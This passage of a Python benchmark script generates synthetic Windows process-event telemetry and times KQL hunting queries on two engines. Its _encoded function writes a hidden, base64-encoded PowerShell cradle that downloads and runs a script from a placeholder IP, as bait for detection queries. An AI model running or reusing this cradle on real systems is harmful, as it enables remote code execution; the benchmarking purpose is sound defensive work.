#!/usr/bin/env python3
"""Advanced-hunting benchmark: graphsoar's emulator (runHuntingQuery over HTTP) against duckdb-kql.

    python3 bench/hunting/bench.py [--rows 1000000] [--runs 5] [--scales 100000,1000000,10000000]
                                   [--graphsoar target/release/graphsoar] [--tenant 100000]

1. Generates (once, deterministically, streamed to disk) a DeviceProcessEvents table of N rows
   with 9 columns under target/bench-hunting/rows-N/ (a `--dataset` folder: tables/*.jsonl plus
   empty alerts.json and incidents.json). Timestamps fall in the 29 days before the emulator's
   anchor 2030-01-01T00:00:00Z ("now" at its start), inside its default 30-day query window;
   exactly 0.5% of the rows (one in every 200) run PowerShell with `-EncodedCommand`.
2. Starts `graphsoar emulator --listen 127.0.0.1:0 --dataset DIR` (GRAPHSOAR_LOG=warn), measures
   the time from process start to its "listening on" line and its peak memory (VmHWM), gets a
   token and times each query R times as full HTTP round trips (POST .../runHuntingQuery, body
   read), checking the row counts against what the generator knows.
3. Runs duckdb-kql on the same JSONL in a child process (load time, RSS and peak), each query R
   times with the result fetched, checking it gets the same counts.
4. Prints Markdown: the queries side by side, load and memory, bytes per row; then (a) and (b)
   at every scale, and how the times grow; with --tenant, a generated tenant's start.

Needs duckdb-kql: it re-runs itself under target/duckdb-venv/bin/python when that exists
(python3 -m venv target/duckdb-venv && target/duckdb-venv/bin/pip install -r
tests/kql/duckdb/requirements.txt). Without the graphsoar binary only the duckdb-kql side runs.
"""

from __future__ import annotations

import argparse
import base64
import datetime as dt
import gc
import http.client
import json
import os
import platform
import queue
import random
import re
import shlex
import statistics
import subprocess
import sys
import threading
import time
import urllib.parse

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
VENV_PYTHON = os.path.join(ROOT, "target", "duckdb-venv", "bin", "python")
GENERATOR_VERSION = 1
TICKS_PER_SECOND = 10_000_000
TICKS_PER_DAY = 86_400 * TICKS_PER_SECOND
EPOCH = dt.datetime(1970, 1, 1)
ANCHOR_TICKS = (dt.datetime(2030, 1, 1) - EPOCH).days * TICKS_PER_DAY
SPREAD_TICKS = 29 * TICKS_PER_DAY
DEVICES = 2000
ENCODED_EVERY = 200  # exactly 0.5 %: one row in every block of 200
GRAPH_MAX_ROWS = 100_000
COLUMNS = {
    "Timestamp": "TIMESTAMP",
    "DeviceId": "VARCHAR",
    "DeviceName": "VARCHAR",
    "FileName": "VARCHAR",
    "FolderPath": "VARCHAR",
    "ProcessCommandLine": "VARCHAR",
    "AccountName": "VARCHAR",
    "InitiatingProcessFileName": "VARCHAR",
    "ReportId": "BIGINT",
}
QUERIES = {
    "a": 'DeviceProcessEvents | where ProcessCommandLine has "encodedcommand"',
    "b": "DeviceProcessEvents | summarize count() by DeviceName",
    "c": ("DeviceProcessEvents | where ReportId < 100000 | join kind=inner (DeviceProcessEvents "
          "| where ReportId >= 100000 and ReportId < 200000) on DeviceId | count"),
    # (a) counted: the same filter without sending its rows (at 10M rows (a) itself passes the
    # 124 MB result cap, as it would in the Defender API).
    "a#": 'DeviceProcessEvents | where ProcessCommandLine has "encodedcommand" | count',
}
COUNTED = ("c", "a#")


# --------------------------------------------------------------------------------------------
# Dataset
# --------------------------------------------------------------------------------------------

FIRST = ["james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david", "elizabeth",
         "william", "barbara", "richard", "susan", "joseph", "jessica", "thomas", "sarah", "carlos", "karen",
         "daniel", "lisa", "matthew", "nancy", "anthony", "betty", "mark", "sandra", "ahmed", "ashley",
         "wei", "kimberly", "raj", "emily", "yuki", "donna", "olga", "michelle", "pierre", "fatima"]
LAST = ["smith", "johnson", "williams", "brown", "jones", "garcia", "miller", "davis", "rodriguez", "martinez",
        "hernandez", "lopez", "gonzalez", "wilson", "anderson", "thomas", "taylor", "moore", "jackson", "martin",
        "lee", "perez", "thompson", "white", "harris", "sanchez", "clark", "ramirez", "lewis", "robinson",
        "walker", "young", "allen", "king", "wright", "scott", "torres", "nguyen", "hill", "flores",
        "green", "adams", "nelson", "baker", "hall", "rivera", "campbell", "mitchell", "carter", "roberts",
        "muller", "schmidt", "dubois", "rossi", "tanaka", "kowalski", "novak", "jansen", "silva", "kumar"]
SERVICE_ACCOUNTS = ["system", "local service", "network service"]
SVCHOST_GROUPS = [("netsvcs", "Schedule"), ("netsvcs", "Winmgmt"), ("LocalServiceNetworkRestricted", "EventLog"),
                  ("NetworkService", "Dnscache"), ("LocalSystemNetworkRestricted", "SysMain"),
                  ("UnistackSvcGroup", "CDPUserSvc"), ("wsappx", "AppXSvc"), ("DcomLaunch", "PlugPlay"),
                  ("LocalService", "BthAvctpSvc"), ("netsvcs", "BITS"), ("utcsvc", "DiagTrack")]
DOC_WORDS = ["invoice", "budget", "q3-report", "minutes", "contract", "roadmap", "payroll", "offer", "plan", "notes"]
PS_COMMANDS = [
    'Get-ChildItem -Path "C:\\Users\\{u}\\Documents" -Recurse -Filter *.{ext} | Measure-Object',
    'Get-Process | Where-Object {{ $_.WorkingSet -gt {n}000000 }} | Select-Object Name, Id',
    'Import-Module ActiveDirectory; Get-ADUser -Identity {u} -Properties LastLogonDate',
    'Get-WinEvent -LogName Security -MaxEvents {n} | Export-Csv C:\\Temp\\events-{h}.csv',
    'Test-NetConnection -ComputerName srv-{n4}.contoso.com -Port 443',
    'Invoke-WebRequest -Uri https://intranet.contoso.com/api/v1/items/{n} -UseBasicParsing',
]


class Rng:
    """The generator's random source (fixed seed, so the same N gives the same file)."""

    def __init__(self, seed: int):
        self.r = random.Random(seed)

    def guid(self) -> str:
        h = f"{self.r.getrandbits(128):032x}"
        return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"

    def hexs(self, n: int) -> str:
        return f"{self.r.getrandbits(4 * n):0{n}x}"


def _esc(s: str) -> str:
    """A JSON string body (the generated text is ASCII with no control characters)."""
    return s.replace("\\", "\\\\").replace('"', '\\"')


def _process(rng: Rng, user: str, device: int):
    """(FileName, FolderPath, ProcessCommandLine, InitiatingProcessFileName, service account?)."""
    r = rng.r
    x = r.random()
    if x < 0.15:
        g, s = SVCHOST_GROUPS[r.randrange(len(SVCHOST_GROUPS))]
        return ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", f"svchost.exe -k {g} -p -s {s}",
                "services.exe", True)
    if x < 0.29:
        return ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                f'"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
                f"--field-trial-handle={r.randrange(1000, 9999)},i,{r.getrandbits(62)},{r.getrandbits(62)},262144 "
                f"--lang=en-US --renderer-client-id={r.randrange(5, 900)} "
                f"--launch-time-ticks={r.getrandbits(40)} --mojo-platform-channel-handle={r.randrange(1000, 9999)} "
                f"/prefetch:1", "chrome.exe", False)
    if x < 0.39:
        return ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                f'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility '
                f"--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
                f"--field-trial-handle={r.randrange(1000, 9999)},i,{r.getrandbits(62)},{r.getrandbits(62)},262144 "
                f"/prefetch:{r.randrange(1, 9)}", "msedge.exe", False)
    if x < 0.45:
        cmd = PS_COMMANDS[r.randrange(len(PS_COMMANDS))].format(
            u=user, ext=("docx", "xlsx", "pdf")[r.randrange(3)], n=r.randrange(10, 5000),
            n4=f"{r.randrange(10000):04d}", h=rng.hexs(8))
        if r.random() < 0.5:
            line = (f'powershell.exe -NoProfile -ExecutionPolicy Bypass -File '
                    f'"C:\\Users\\{user}\\AppData\\Local\\Temp\\{rng.guid()}.ps1"')
        else:
            line = f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -Command "{cmd}"'
        parent = ("explorer.exe", "cmd.exe", "svchost.exe", "Code.exe")[r.randrange(4)]
        return ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", line, parent,
                False)
    if x < 0.52:
        if r.random() < 0.5:
            line = f'cmd.exe /c "C:\\ProgramData\\Contoso\\Agent\\update-{r.randrange(100000)}.bat" {rng.hexs(6)}'
        else:
            line = f"cmd.exe /c echo {rng.guid()} > \\\\.\\pipe\\{rng.hexs(12)}"
        return ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", line,
                ("explorer.exe", "svchost.exe", "Code.exe", "java.exe")[r.randrange(4)], False)
    if x < 0.58:
        return ("conhost.exe", "C:\\Windows\\System32\\conhost.exe",
                f"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1 -Id {r.randrange(1, 99999)}",
                ("cmd.exe", "powershell.exe", "git.exe")[r.randrange(3)], False)
    if x < 0.61:
        return ("dllhost.exe", "C:\\Windows\\System32\\dllhost.exe",
                f"C:\\Windows\\system32\\DllHost.exe /Processid:{{{rng.guid().upper()}}}", "svchost.exe", False)
    if x < 0.64:
        return ("RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe",
                f"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding -Session {r.randrange(1, 9)}",
                "svchost.exe", False)
    if x < 0.68:
        return ("ms-teams.exe", f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\ms-teams.exe",
                f'"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\ms-teams.exe" '
                f"--type=renderer --autoplay-policy=no-user-gesture-required --renderer-client-id={r.randrange(5, 99)} "
                f"--session={rng.guid()}", "ms-teams.exe", False)
    if x < 0.71:
        return ("OneDrive.exe", f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                f'"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background '
                f"/sync:{rng.hexs(16)}", "explorer.exe", False)
    if x < 0.74:
        doc = DOC_WORDS[r.randrange(len(DOC_WORDS))]
        return ("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n '
                f'"C:\\Users\\{user}\\Downloads\\{doc}-{r.randrange(100000)}.docx" /o ""', "explorer.exe", False)
    if x < 0.77:
        return ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle /profile:{user}-{r.randrange(99)}',
                "explorer.exe", False)
    if x < 0.80:
        return ("EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" '
                f'"\\\\fs-{r.randrange(1, 9):02d}.contoso.com\\finance\\{DOC_WORDS[r.randrange(10)]}-{r.randrange(100000)}.xlsx"',
                "explorer.exe", False)
    if x < 0.83:
        return ("git.exe", "C:\\Program Files\\Git\\cmd\\git.exe",
                f"git.exe fetch --no-tags origin refs/heads/feature/{rng.hexs(7)} --depth={r.randrange(1, 50)}",
                ("Code.exe", "cmd.exe", "powershell.exe")[r.randrange(3)], False)
    if x < 0.85:
        return ("node.exe", "C:\\Program Files\\nodejs\\node.exe",
                f'"C:\\Program Files\\nodejs\\node.exe" C:\\Users\\{user}\\src\\app-{r.randrange(50)}\\node_modules\\'
                f".bin\\..\\vite\\bin\\vite.js --port {r.randrange(3000, 9000)}", "Code.exe", False)
    if x < 0.87:
        return ("taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe",
                f"taskhostw.exe {{{rng.guid().upper()}}}", "svchost.exe", False)
    if x < 0.89:
        return ("SearchProtocolHost.exe", "C:\\Windows\\System32\\SearchProtocolHost.exe",
                f'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{r.randrange(1, 999)}_ '
                f"Global\\UsGthrCtrlFltPipeMssGthrPipe{r.randrange(1, 999)} 1 -2147483646",
                "SearchIndexer.exe", True)
    if x < 0.91:
        return ("backgroundTaskHost.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe",
                f'"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX{rng.hexs(32)}.mca',
                "svchost.exe", False)
    if x < 0.925:
        return ("WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                f"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding -id {r.randrange(1, 9999)}",
                "svchost.exe", True)
    if x < 0.94:
        return ("MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe",
                f'"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe" '
                f"-scan {rng.hexs(10)}", "services.exe", True)
    if x < 0.955:
        return ("rundll32.exe", "C:\\Windows\\System32\\rundll32.exe",
                f"rundll32.exe C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll {{{rng.guid()}}} "
                f"-Embedding", "svchost.exe", False)
    if x < 0.965:
        return ("schtasks.exe", "C:\\Windows\\System32\\schtasks.exe",
                f'schtasks.exe /query /tn "\\Contoso\\Inventory-{r.randrange(1000)}" /fo LIST /v',
                ("cmd.exe", "powershell.exe")[r.randrange(2)], False)
    if x < 0.975:
        return ("python.exe", "C:\\Program Files\\Python312\\python.exe",
                f'"C:\\Program Files\\Python312\\python.exe" C:\\Users\\{user}\\src\\etl\\job_{r.randrange(500)}.py '
                f"--date 2029-12-{r.randrange(1, 31):02d} --batch {r.randrange(1, 10000)}",
                ("cmd.exe", "Code.exe")[r.randrange(2)], False)
    if x < 0.982:
        return ("msiexec.exe", "C:\\Windows\\System32\\msiexec.exe",
                f"C:\\Windows\\system32\\msiexec.exe /V /I C:\\Windows\\ccmcache\\{rng.hexs(4)}\\setup-{r.randrange(999)}.msi /qn",
                "svchost.exe", True)
    if x < 0.988:
        return ("net.exe", "C:\\Windows\\System32\\net.exe",
                f'net.exe use \\\\fs-{r.randrange(1, 9):02d}.contoso.com\\home\\{user} /persistent:no',
                ("cmd.exe", "explorer.exe")[r.randrange(2)], False)
    if x < 0.993:
        return ("curl.exe", "C:\\Windows\\System32\\curl.exe",
                f"curl.exe -s -o C:\\Users\\{user}\\Downloads\\pkg-{r.randrange(100000)}.zip "
                f"https://packages.contoso.com/artifacts/{rng.hexs(12)}.zip", "cmd.exe", False)
    if x < 0.997:
        return ("whoami.exe", "C:\\Windows\\System32\\whoami.exe", f"whoami.exe /{('all', 'groups', 'priv')[r.randrange(3)]}",
                "cmd.exe", False)
    return ("explorer.exe", "C:\\Windows\\explorer.exe", f"C:\\Windows\\Explorer.EXE /factory,{{{rng.guid()}}} -Embedding",
            "userinit.exe", False)


def _encoded(rng: Rng, user: str):
    r = rng.r
    script = (f"$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');"
              f"IEX $c.DownloadString('http://198.51.100.{r.randrange(1, 254)}/{rng.hexs(8)}.ps1');"
              f"Remove-Item C:\\Users\\{user}\\AppData\\Local\\Temp\\{rng.hexs(6)}.tmp")
    b64 = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    flags = ("-NoP -NonI -W Hidden", "-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden", "-nop -w hidden")[r.randrange(3)]
    line = f"powershell.exe {flags} -EncodedCommand {b64}"
    parent = ("cmd.exe", "WmiPrvSE.exe", "WINWORD.EXE", "wscript.exe")[r.randrange(4)]
    return ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", line, parent, False)


def dataset_dir(out: str, rows: int) -> str:
    return os.path.join(out, f"rows-{rows}")


def ensure_dataset(out: str, rows: int, seed: int, log) -> dict:
    """The dataset folder for `rows` rows (generated unless an identical one exists) and its facts."""
    d = dataset_dir(out, rows)
    meta_path = os.path.join(d, "bench-meta.json")
    want = {"generator": GENERATOR_VERSION, "rows": rows, "seed": seed}
    if os.path.exists(meta_path):
        with open(meta_path, encoding="utf-8") as f:
            meta = json.load(f)
        if all(meta.get(k) == v for k, v in want.items()) and os.path.exists(meta["jsonl"]):
            meta["generated_now"] = False
            return meta
    os.makedirs(os.path.join(d, "tables"), exist_ok=True)
    for name in ("alerts.json", "incidents.json"):
        with open(os.path.join(d, name), "w", encoding="utf-8") as f:
            f.write("[]\n")
    path = os.path.join(d, "tables", "DeviceProcessEvents.jsonl")
    tmp = path + ".part"
    log(f"generating {rows:,} rows into {path} ...")
    started = time.monotonic()
    facts = _generate(tmp, rows, seed)
    os.replace(tmp, path)
    meta = {**want, **facts, "jsonl": path, "dir": d, "bytes": os.path.getsize(path),
            "generate_seconds": round(time.monotonic() - started, 2)}
    with open(meta_path, "w", encoding="utf-8") as f:
        json.dump(meta, f, indent=1)
    meta["generated_now"] = True
    return meta


def _generate(path: str, rows: int, seed: int) -> dict:
    rng = Rng(seed)
    r = rng.r
    devices = []
    for i in range(DEVICES):
        name = f"ws-{i:04d}.contoso.com" if i < 1850 else f"srv-{i - 1850:04d}.contoso.com"
        user = f"{FIRST[r.randrange(len(FIRST))][0]}{LAST[r.randrange(len(LAST))]}"
        devices.append((rng.hexs(40), name, user))
    # Device popularity: a few busy servers and build machines, most workstations alike.
    weights = [(8.0 if i >= 1850 else 1.0) * (0.5 + r.random()) for i in range(DEVICES)]
    cum, total = [], 0.0
    for w in weights:
        total += w
        cum.append(total)
    import bisect

    def pick_device() -> int:
        return min(bisect.bisect_right(cum, r.random() * total), DEVICES - 1)

    days: dict[int, str] = {}
    left_counts = [0] * DEVICES
    right_counts = [0] * DEVICES
    used = bytearray(DEVICES)
    encoded = 0
    encoded_slot = r.randrange(ENCODED_EVERY)
    buf: list[str] = []
    with open(path, "w", encoding="ascii", buffering=8 << 20) as f:
        for i in range(rows):
            if i % ENCODED_EVERY == 0:
                encoded_slot = r.randrange(ENCODED_EVERY)
            dev = pick_device()
            device_id, device_name, primary = devices[dev]
            used[dev] = 1
            if i < 100_000:
                left_counts[dev] += 1
            elif i < 200_000:
                right_counts[dev] += 1
            u = r.random()
            user = primary if u < 0.85 else (
                f"{FIRST[r.randrange(len(FIRST))][0]}{LAST[r.randrange(len(LAST))]}" if u < 0.9 else "adm-" + primary)
            if i % ENCODED_EVERY == encoded_slot:
                fname, folder, line, parent, service = _encoded(rng, user)
                encoded += 1
            else:
                fname, folder, line, parent, service = _process(rng, user, dev)
            account = SERVICE_ACCOUNTS[r.randrange(3)] if service else user
            ticks = ANCHOR_TICKS - 1 - r.randrange(SPREAD_TICKS)
            day, rest = divmod(ticks, TICKS_PER_DAY)
            date = days.get(day)
            if date is None:
                date = days[day] = (EPOCH + dt.timedelta(days=day)).strftime("%Y-%m-%d")
            secs, frac = divmod(rest, TICKS_PER_SECOND)
            hh, rem = divmod(secs, 3600)
            mm, ss = divmod(rem, 60)
            buf.append(
                f'{{"Timestamp":"{date}T{hh:02d}:{mm:02d}:{ss:02d}.{frac:07d}Z","DeviceId":"{device_id}",'
                f'"DeviceName":"{device_name}","FileName":"{fname}","FolderPath":"{_esc(folder)}",'
                f'"ProcessCommandLine":"{_esc(line)}","AccountName":"{account}",'
                f'"InitiatingProcessFileName":"{parent}","ReportId":{i}}}\n'
            )
            if len(buf) >= 20_000:
                f.writelines(buf)
                buf.clear()
        f.writelines(buf)
    return {
        "encoded": encoded,
        "devices": int(sum(used)),
        "join_count": sum(a * b for a, b in zip(left_counts, right_counts)),
    }


def expected(meta: dict) -> dict:
    """What each query must answer: rows for (a) and (b), the Count for (c)."""
    return {"a": meta["encoded"], "b": meta["devices"], "c": meta["join_count"], "a#": meta["encoded"]}


# --------------------------------------------------------------------------------------------
# Processes and memory
# --------------------------------------------------------------------------------------------


def proc_status(pid: int | str = "self") -> dict[str, int]:
    """VmRSS, VmHWM, ... in bytes."""
    out = {}
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as f:
            for line in f:
                if line.startswith("Vm"):
                    k, v = line.split(":", 1)
                    parts = v.split()
                    out[k] = int(parts[0]) * 1024 if parts[1:] == ["kB"] else int(parts[0])
    except OSError:
        pass
    return out


def mem_available() -> int:
    with open("/proc/meminfo", encoding="ascii") as f:
        for line in f:
            if line.startswith("MemAvailable:"):
                return int(line.split()[1]) * 1024
    return 0


def mib(n: float | None) -> str:
    return "—" if n is None else f"{n / 1048576:,.0f} MiB"


# --------------------------------------------------------------------------------------------
# graphsoar
# --------------------------------------------------------------------------------------------


class Emulator:
    """A `graphsoar emulator` child process, started and stopped by its pid."""

    LISTENING = re.compile(r"listening on http://(\S+)")

    def __init__(self, binary: str, args: list[str], log_path: str, max_rss: int, start_timeout: float):
        self.args = [binary, "emulator", "--listen", "127.0.0.1:0", *args]
        env = dict(os.environ, GRAPHSOAR_LOG=os.environ.get("GRAPHSOAR_LOG", "warn"))
        self.log_path = log_path
        self.stderr = open(log_path, "wb")
        self.lines: queue.Queue = queue.Queue()
        self.t0 = time.perf_counter()
        self.proc = subprocess.Popen(self.args, stdout=subprocess.PIPE, stderr=self.stderr, env=env,
                                     stdin=subprocess.DEVNULL)
        threading.Thread(target=self._read, daemon=True).start()
        self.addr = None
        self.output: list[str] = []
        deadline = time.monotonic() + start_timeout
        self.peak_while_loading = 0
        while self.addr is None:
            if time.monotonic() > deadline:
                self.stop()
                raise RuntimeError(f"no 'listening on' line within {start_timeout:.0f} s")
            try:
                line = self.lines.get(timeout=0.05)
            except queue.Empty:
                line = None
            rss = proc_status(self.proc.pid).get("VmRSS", 0)
            self.peak_while_loading = max(self.peak_while_loading, rss)
            if max_rss and rss > max_rss:
                self.stop()
                raise RuntimeError(f"stopped: its memory passed the limit ({mib(rss)} > {mib(max_rss)})")
            if line is None:
                if self.proc.poll() is not None:
                    raise RuntimeError(f"exited with {self.proc.returncode} before listening: {self._stderr_tail()}")
                continue
            if line == "":
                continue
            self.output.append(line)
            m = self.LISTENING.search(line)
            if m:
                self.addr = m.group(1)
        self.load_seconds = time.perf_counter() - self.t0
        status = proc_status(self.proc.pid)
        self.hwm_after_load = status.get("VmHWM")
        self.rss_after_load = status.get("VmRSS")

    def _read(self):
        for raw in self.proc.stdout:
            self.lines.put(raw.decode("utf-8", "replace").rstrip("\n"))
        self.lines.put("")

    def _stderr_tail(self) -> str:
        self.stderr.flush()
        try:
            with open(self.log_path, "rb") as f:
                return f.read()[-2000:].decode("utf-8", "replace").strip()
        except OSError:
            return ""

    def hwm(self) -> int | None:
        return proc_status(self.proc.pid).get("VmHWM")

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.stderr.close()


class Graph:
    """A keep-alive HTTP client for the emulator's token endpoint and runHuntingQuery."""

    def __init__(self, addr: str, timeout: float):
        self.host, port = addr.rsplit(":", 1)
        self.port = int(port)
        self.timeout = timeout
        self.conn = http.client.HTTPConnection(self.host, self.port, timeout=timeout)
        self.token = None

    def request(self, method: str, path: str, body: bytes, headers: dict) -> tuple[int, bytes]:
        for attempt in (1, 2):
            try:
                self.conn.request(method, path, body=body, headers=headers)
                resp = self.conn.getresponse()
                return resp.status, resp.read()
            except (http.client.HTTPException, ConnectionError):
                self.conn.close()
                self.conn = http.client.HTTPConnection(self.host, self.port, timeout=self.timeout)
                if attempt == 2:
                    raise
        raise AssertionError("unreachable")

    def get_token(self):
        form = urllib.parse.urlencode({
            "grant_type": "client_credentials", "client_id": "graphsoar-local",
            "client_secret": "local-secret", "scope": "https://graph.microsoft.com/.default",
        }).encode()
        status, body = self.request("POST", "/local/oauth2/v2.0/token", form,
                                    {"Content-Type": "application/x-www-form-urlencoded"})
        if status != 200:
            raise RuntimeError(f"token endpoint answered {status}: {body[:300]!r}")
        self.token = json.loads(body)["access_token"]

    def hunt(self, query: str) -> tuple[float, int, dict | None, bytes]:
        """(seconds, status, parsed body or None, raw body): the round trip is timed, parsing is not."""
        payload = json.dumps({"query": query}).encode()
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {self.token}",
                   "Accept": "application/json"}
        t = time.perf_counter()
        status, body = self.request("POST", "/v1.0/security/runHuntingQuery", payload, headers)
        seconds = time.perf_counter() - t
        parsed = None
        if status == 200:
            parsed = json.loads(body)
        return seconds, status, parsed, body


def graphsoar_answer_count(key: str, parsed: dict) -> int:
    results = parsed.get("results", [])
    if key in COUNTED:
        return int(results[0].get("Count")) if results else -1
    return len(results)


def run_graphsoar(binary: str, meta: dict, keys: list[str], runs: int, args, log) -> dict:
    out: dict = {"queries": {}}
    log_path = os.path.join(meta["dir"], "emulator.log")
    emu = Emulator(binary, ["--dataset", meta["dir"]], log_path, args.max_rss, args.start_timeout)
    try:
        out.update(load_seconds=emu.load_seconds, hwm_after_load=emu.hwm_after_load,
                   rss_after_load=emu.rss_after_load, addr=emu.addr)
        log(f"graphsoar: listening on {emu.addr} after {emu.load_seconds:.2f} s, "
            f"VmHWM {mib(emu.hwm_after_load)}")
        graph = Graph(emu.addr, args.http_timeout)
        graph.get_token()
        want = expected(meta)
        for key in keys:
            times, count, error = [], None, None
            for _ in range(runs):
                seconds, status, parsed, body = graph.hunt(QUERIES[key])
                if status != 200:
                    error = f"HTTP {status}: {body[:400].decode('utf-8', 'replace')}"
                    break
                times.append(seconds)
                count = graphsoar_answer_count(key, parsed)
                del parsed, body
            must = min(want[key], GRAPH_MAX_ROWS) if key not in COUNTED else want[key]
            q = {"times": times, "count": count, "expected": must, "error": error,
                 "ok": error is None and count == must}
            out["queries"][key] = q
            log(f"graphsoar ({key}): " + (error or f"median {statistics.median(times):.3f} s, "
                                                    f"{'rows' if key not in COUNTED else 'Count'} {count:,} (want {must:,})"))
        out["hwm_end"] = emu.hwm()
    finally:
        emu.stop()
    return out


def run_tenant(binary: str, alerts: int, args, log) -> dict:
    os.makedirs(args.out, exist_ok=True)
    emu = Emulator(binary, ["--generate", str(alerts)], os.path.join(args.out, f"tenant-{alerts}.log"),
                   args.max_rss, args.start_timeout)
    try:
        res = {"alerts": alerts, "load_seconds": emu.load_seconds, "hwm": emu.hwm_after_load,
               "rss": emu.rss_after_load}
        log(f"graphsoar --generate {alerts}: listening after {emu.load_seconds:.2f} s, VmHWM {mib(emu.hwm_after_load)}")
    finally:
        emu.stop()
    return res


# --------------------------------------------------------------------------------------------
# duckdb-kql (in a child process, so each scale's memory is measured alone)
# --------------------------------------------------------------------------------------------


def duckdb_worker(jsonl: str, keys: list[str], runs: int) -> dict:
    import duckdb
    import duckdb_kql

    gc.collect()
    before = proc_status()
    con = duckdb_kql.connect()
    try:
        with open("/proc/self/clear_refs", "w") as f:  # resets VmHWM to the current RSS
            f.write("5")
    except OSError:
        pass
    spec = "{" + ", ".join(f"'{c}': '{t}'" for c, t in COLUMNS.items()) + "}"
    t = time.perf_counter()
    con.execute(f"CREATE TABLE DeviceProcessEvents AS SELECT * FROM read_json('{jsonl}', "
                f"format='newline_delimited', columns={spec})")
    load_seconds = time.perf_counter() - t
    after = proc_status()
    rows = con.execute("SELECT count(*) FROM DeviceProcessEvents").fetchone()[0]
    size = con.execute("PRAGMA database_size").fetchall()
    res = {"load_seconds": load_seconds, "rows": rows, "rss_before": before.get("VmRSS"),
           "rss_after_load": after.get("VmRSS"), "hwm_load": after.get("VmHWM"),
           "duckdb_memory_usage": str(size[0][-2]) if size else None,
           "threads": con.execute("SELECT current_setting('threads')").fetchone()[0],
           "duckdb": duckdb.__version__, "duckdb_kql": duckdb_kql.__version__, "queries": {}}
    schema = {"DeviceProcessEvents": list(COLUMNS)}
    for key in keys:
        text = QUERIES[key]
        translations = []
        for _ in range(max(2, runs)):
            t = time.perf_counter()
            duckdb_kql.to_sql(text, schema=schema)
            translations.append(time.perf_counter() - t)
        translate = statistics.median(translations[1:])
        times, count, error = [], None, None
        for _ in range(runs):
            try:
                t = time.perf_counter()
                fetched = duckdb_kql.query(con, text).fetchall()
                times.append(time.perf_counter() - t)
            except Exception as e:  # noqa: BLE001 - reported, not fatal
                error = f"{type(e).__name__}: {e}"
                break
            count = fetched[0][0] if key in COUNTED else len(fetched)
            del fetched
        res["queries"][key] = {"times": times, "count": count, "error": error, "translate_seconds": translate}
    res["hwm_end"] = proc_status().get("VmHWM")
    return res


def run_duckdb(meta: dict, keys: list[str], runs: int, args, log) -> dict:
    cmd = [sys.executable, os.path.abspath(__file__), "--duckdb-worker", meta["jsonl"], "--runs", str(runs),
           "--worker-queries", ",".join(keys)]
    proc = subprocess.run(cmd, capture_output=True, text=True)
    if proc.returncode != 0:
        raise RuntimeError(f"duckdb-kql worker failed: {proc.stderr[-2000:]}")
    res = json.loads(proc.stdout.strip().splitlines()[-1])
    want = expected(meta)
    for key, q in res["queries"].items():
        q["expected"] = want[key]
        q["ok"] = q["error"] is None and q["count"] == want[key]
        log(f"duckdb-kql ({key}): " + (q["error"] or f"median {statistics.median(q['times']):.3f} s, "
                                                    f"{'rows' if key not in COUNTED else 'Count'} {q['count']:,} (want {want[key]:,})"))
    log(f"duckdb-kql: loaded {res['rows']:,} rows in {res['load_seconds']:.2f} s, RSS +"
        f"{mib(res['rss_after_load'] - res['rss_before'])}, peak {mib(res['hwm_load'])}")
    return res


# --------------------------------------------------------------------------------------------
# Report
# --------------------------------------------------------------------------------------------


def check_failure(q: dict) -> str:
    return q["error"] or f"answered {q['count']}, want {q['expected']}"


def med(q: dict | None) -> float | None:
    if not q or not q.get("times"):
        return None
    return statistics.median(q["times"])


def fmt_s(x: float | None) -> str:
